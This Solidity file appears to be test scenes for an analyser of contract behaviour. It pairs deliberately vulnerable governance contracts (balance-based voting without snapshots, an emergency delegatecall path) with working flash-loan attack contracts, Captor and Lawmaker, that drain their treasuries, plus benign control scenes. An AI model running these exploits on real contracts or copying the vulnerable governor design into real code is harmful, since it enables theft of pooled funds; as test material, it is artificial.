// SPDX-License-Identifier: Apache-2.0 OR MIT
pragma solidity ^0.8.30;

import "./Parts.sol";

/// Decides by the votes of the moment. With a delay it decides by those of before.
contract Governor {
    struct Proposal {
        address target;
        bytes data;
        uint256 votes;
        uint256 notBefore;
        bool done;
    }

    Coin public immutable coin;
    uint256 public immutable delay;
    Proposal[] public proposals;

    constructor(Coin coin_, uint256 delay_) {
        (coin, delay) = (coin_, delay_);
    }

    function propose(
        address[] calldata targets,
        uint256[] calldata,
        string[] calldata,
        bytes[] calldata data,
        string calldata
    ) external returns (uint256) {
        proposals.push(Proposal(targets[0], data[0], 0, block.timestamp + delay, false));
        return proposals.length - 1;
    }

    function castVote(uint256 id, uint8) external {
        proposals[id].votes += coin.balanceOf(msg.sender);
    }

    function execute(uint256 id) external {
        Proposal storage proposal = proposals[id];
        require(!proposal.done && block.timestamp >= proposal.notBefore, "not now");
        require(proposal.votes > coin.totalSupply() / 2, "not enough");
        proposal.done = true;
        (bool sent,) = proposal.target.call(proposal.data);
        require(sent, "failed");
    }
}

contract Captor is Flash {
    Governor immutable governor;
    Lender immutable lender;
    Coin immutable prize;

    constructor(Governor governor_, Lender lender_, Coin prize_) {
        (governor, lender, prize) = (governor_, lender_, prize_);
    }

    function run() external payable {
        Coin votes = governor.coin();
        if (address(lender) == address(0)) borrowed(0);
        else lender.flashLoan(this, votes, votes.balanceOf(address(lender)), "");
        prize.transfer(tx.origin, prize.balanceOf(address(this)));
    }

    function borrowed(uint256) internal override {
        address[] memory targets = new address[](1);
        bytes[] memory data = new bytes[](1);
        targets[0] = address(prize);
        data[0] = abi.encodeCall(Coin.transfer, (address(this), prize.balanceOf(address(governor))));
        uint256 id = governor.propose(targets, new uint256[](1), new string[](1), data, "");
        governor.castVote(id, 1);
        governor.execute(id);
    }
}

abstract contract VoteScene is Scene {
    function set(bool loan) internal {
        Coin votes = new Coin("VOTE");
        Coin prize = new Coin("USD");
        Governor governor = new Governor(votes, 0);
        prize.mint(address(governor), 500 ether);
        votes.mint(address(0xA11CE), 100 ether);
        Lender lender = loan ? new Lender() : Lender(address(0));
        Captor captor = new Captor(governor, lender, prize);
        votes.mint(loan ? address(lender) : address(captor), 200 ether);
        actor = address(captor);
    }
}

contract VotesOnLoan is VoteScene {
    constructor() payable {
        set(true);
    }
}

contract VotesOfOwn is VoteScene {
    constructor() payable {
        set(false);
    }
}

/// Votes, and that is all.
contract Voter {
    Governor immutable governor;

    constructor(Governor governor_) {
        governor = governor_;
    }

    function run() external payable {
        governor.castVote(0, 1);
    }
}

/// Carries out what was decided long ago: a grant to somebody else.
contract Executor {
    Governor immutable governor;

    constructor(Governor governor_) {
        governor = governor_;
    }

    function run() external payable {
        governor.execute(0);
    }
}

abstract contract Assembly is Scene {
    function assemble() internal returns (Governor governor, Coin votes) {
        votes = new Coin("VOTE");
        Coin prize = new Coin("USD");
        governor = new Governor(votes, 0);
        prize.mint(address(governor), 500 ether);
        votes.mint(address(this), 200 ether);
        address[] memory targets = new address[](1);
        bytes[] memory data = new bytes[](1);
        targets[0] = address(prize);
        data[0] = abi.encodeCall(Coin.transfer, (address(0x6EA7), 50 ether));
        governor.propose(targets, new uint256[](1), new string[](1), data, "");
    }
}

contract PlainVote is Assembly {
    constructor() payable {
        (Governor governor, Coin votes) = assemble();
        Voter voter = new Voter(governor);
        votes.mint(address(voter), 10 ether);
        actor = address(voter);
    }
}

contract GrantPaid is Assembly {
    constructor() payable {
        (Governor governor,) = assemble();
        governor.castVote(0, 1);
        actor = address(new Executor(governor));
    }
}

/// Keeps everybody's deposits, and runs as its own code what two thirds have voted for, at once when
/// there is an emergency.
contract Republic {
    Coin public immutable votes;
    Coin public immutable coin;
    mapping(uint256 => address) public laws;
    mapping(uint256 => uint256) public ayes;
    uint256 public count;

    constructor(Coin votes_, Coin coin_) {
        (votes, coin) = (votes_, coin_);
    }

    function propose(address law) external returns (uint256 id) {
        id = count++;
        laws[id] = law;
    }

    function castVote(uint256 id, bool) external {
        ayes[id] += votes.balanceOf(msg.sender);
    }

    function emergencyCommit(uint256 id) external {
        require(ayes[id] * 3 >= votes.totalSupply() * 2, "not enough");
        (bool done,) = laws[id].delegatecall(abi.encodeWithSignature("init()"));
        require(done, "failed");
    }
}

/// A law by which all deposits are its maker's.
contract Law {
    Coin immutable coin;
    address immutable maker;

    constructor(Coin coin_) {
        (coin, maker) = (coin_, msg.sender);
    }

    function init() external {
        coin.transfer(maker, coin.balanceOf(address(this)));
    }
}

contract Lawmaker is Flash {
    Republic immutable republic;
    Lender immutable lender;

    constructor(Republic republic_, Lender lender_) {
        (republic, lender) = (republic_, lender_);
    }

    function run() external payable {
        Coin votes = republic.votes();
        lender.flashLoan(this, votes, votes.balanceOf(address(lender)), "");
        Coin coin = republic.coin();
        coin.transfer(tx.origin, coin.balanceOf(address(this)));
    }

    function borrowed(uint256) internal override {
        uint256 id = republic.propose(address(new Law(republic.coin())));
        republic.castVote(id, true);
        republic.emergencyCommit(id);
    }
}

contract LawOnLoan is Scene {
    constructor() payable {
        Coin votes = new Coin("SEED");
        Coin coin = new Coin("USD");
        Republic republic = new Republic(votes, coin);
        coin.mint(address(republic), 500 ether);
        votes.mint(address(0xA11CE), 50 ether);
        Lender lender = new Lender();
        votes.mint(address(lender), 200 ether);
        actor = address(new Lawmaker(republic, lender));
    }
}

/// Proposes a grant to somebody, and is the first to vote for it.
contract ProposalMade is Assembly {
    constructor() payable {
        (Governor governor, Coin votes) = assemble();
        address[] memory targets = new address[](1);
        bytes[] memory data = new bytes[](1);
        targets[0] = address(0x6EA7);
        Script script = new Script();
        votes.mint(address(script), 10 ether);
        script.then(
            address(governor),
            abi.encodeCall(governor.propose, (targets, new uint256[](1), new string[](1), data, "a grant"))
        );
        script.then(address(governor), abi.encodeCall(governor.castVote, (1, 1)));
        actor = address(script);
    }
}

/// Pays whoever carries out what was decided.
contract PayingGovernor is Governor {
    constructor(Coin coin_) Governor(coin_, 0) {}

    function reward(uint256 id) external {
        require(proposals[id].done, "not done");
        coin.transfer(msg.sender, 1 ether);
    }
}

contract ExecutorPaid is Scene {
    constructor() payable {
        Coin votes = new Coin("VOTE");
        PayingGovernor governor = new PayingGovernor(votes);
        votes.mint(address(governor), 10 ether);
        votes.mint(address(this), 200 ether);
        address[] memory targets = new address[](1);
        bytes[] memory data = new bytes[](1);
        (targets[0], data[0]) = (address(votes), abi.encodeCall(Coin.transfer, (address(0x6EA7), 5 ether)));
        governor.propose(targets, new uint256[](1), new string[](1), data, "");
        governor.castVote(0, 1);
        Script script = new Script();
        script.then(address(governor), abi.encodeCall(governor.execute, (0)));
        script.then(address(governor), abi.encodeCall(governor.reward, (0)));
        actor = address(script);
    }
}
